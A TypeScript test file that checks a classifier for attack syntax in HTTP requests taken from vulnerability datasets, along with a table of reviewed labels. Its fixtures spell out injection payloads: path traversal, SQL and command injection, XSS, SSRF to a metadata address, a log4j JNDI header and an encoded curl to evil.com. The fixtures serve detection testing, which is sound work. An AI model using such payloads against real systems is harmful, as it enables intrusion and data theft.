import { describe, expect, it } from 'vitest';
import { attackSyntax, REVIEWED_SOURCES } from './label-review.js';
import type { LabelledRecord } from './record.js';
import { REVIEWED_LABELS, requestHash, reviewedLabel } from './reviewed-labels.js';

function request(method: string, path: string, body: string | null = null, source = 'vulhub'): LabelledRecord {
  return { label: 'attack', category: 'other', source, method, path, headers: {}, body };
}

describe('reviewed labels', () => {
  it('gives the verdict of a listed request and none for the same request on another line or in another source', () => {
    const jolokia = request('GET', '/api/jolokia/list');
    expect(reviewedLabel(jolokia, 6)).toBe('unshown');
    expect(reviewedLabel(jolokia, 7)).toBeNull();
    expect(reviewedLabel({ ...jolokia, source: 'xray-pocs' }, 6)).toBeNull();
  });

  it('gives no verdict where the line holds another request', () => {
    expect(reviewedLabel(request('GET', '/api/jolokia/list?x=1'), 6)).toBeNull();
    expect(reviewedLabel(request('POST', '/api/jolokia/list'), 6)).toBeNull();
    expect(reviewedLabel(request('GET', '/api/jolokia/list', '{}'), 6)).toBeNull();
  });

  it('tells a plain URL from a request that shows nothing', () => {
    expect(reviewedLabel(request('GET', '/?url=http://interact.sh', null, 'nuclei-templates'), 1069)).toBe('plain-url');
  });

  it('lists each line once, in the order of the reviewed sources, and quotes no request', () => {
    const lines = REVIEWED_LABELS.map((label) => `${label.source} ${label.index}`);
    expect(new Set(lines).size).toBe(lines.length);
    const order = REVIEWED_LABELS.map(({ source, index }) => REVIEWED_SOURCES.indexOf(source as never) * 1e6 + index);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(Math.min(...order)).toBeGreaterThanOrEqual(0);
    for (const label of REVIEWED_LABELS) {
      expect(Object.keys(label)).toEqual(['source', 'index', 'sha256', 'template', 'verdict', 'reason']);
      expect(label.sha256).toMatch(/^[0-9a-f]{16}$/);
      expect(label.reason.length).toBeLessThanOrEqual(48);
    }
  });

  it('hashes method, path and body, and not the headers', () => {
    const one = request('POST', '/a', 'b');
    expect(requestHash(one)).toBe(requestHash({ ...one, headers: { host: 'x' } }));
    expect(requestHash(one)).not.toBe(requestHash(request('POST', '/ab')));
  });
});

describe('candidates for a review', () => {
  it.each([
    ['GET', '/download?file=../../etc/passwd', null],
    ['GET', '/items?id=1%27%20or%20%271%27=%271', null],
    ['POST', '/ping', 'host=127.0.0.1;id'],
    ['POST', '/ping', '{"host":"$(id)"}'],
    ['GET', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', null],
    ['GET', '/search?q=%2527%2520or%25201%253d1--%2520', null],
    ['POST', '/api', 'cmd=ifconfig'],
    ['POST', '/api', '{"data":"Y3VybCBodHRwOi8vZXZpbC5jb20="}'],
    ['POST', '/users', '{"name":{"$ne":null}}'],
    ['POST', '/upload', '--b\r\nContent-Disposition: form-data; name="f"; filename="a.jsp"\r\n\r\nx\r\n--b--'],
    ['GET', '/proxy?url=http://169.254.169.254/latest', null],
    ['GET', '/go?next=//evil.com', null],
  ])('a request that shows an attack is none: %s %s %s', (method, path, body) => {
    expect(attackSyntax(request(method, path, body))).not.toEqual([]);
  });

  it.each([
    ['POST', '/login', 'username=admin&password=admin123'],
    ['POST', '/login', 'log=admin&pwd=admin&id=1&set=1'],
    ['POST', '/rpc', '{"jsonrpc":"2.0","id":1,"method":"net.version"}'],
    ['GET', '/wp-content/plugins/x/readme.txt', null],
    ['POST', '/users', '{"name":"O\'Brien","note":"select a plan"}'],
    ['POST', '/upload', '--b\r\nContent-Disposition: form-data; name="f"; filename="a.png"\r\n\r\nx\r\n--b--'],
    ['GET', '/go?next=https://example.com/', null],
    ['GET', '/go?next={{oob.HTTP}}', null],
    [
      'POST',
      '/sdk',
      '<?xml version="1.0" encoding="UTF-8"?>\n<config xmlns="http://localhost/x"><port>1</port></config>',
    ],
  ])('a request like any other is one: %s %s %s', (method, path, body) => {
    expect(attackSyntax(request(method, path, body))).toEqual([]);
  });

  it('looks into headers, and asks more of those that every client sends', () => {
    const plain = request('GET', '/');
    const browser = {
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)',
      accept: 'text/html;q=0.9,*/*',
      referer: 'http://localhost/a',
    };
    expect(attackSyntax({ ...plain, headers: browser })).toEqual([]);
    expect(attackSyntax({ ...plain, headers: { 'user-agent': '${jndi:ldap://x/a}' } })).toEqual(['transport header']);
    expect(attackSyntax({ ...plain, headers: { cookie: 'id=1;ls -la' } })).toContain('shell');
  });

  it('is also what is no HTTP request at all', () => {
    expect(attackSyntax(request('FROM', '/image', 'RUN apt-get update && rm -rf /var/lib'))).toEqual([]);
  });
});
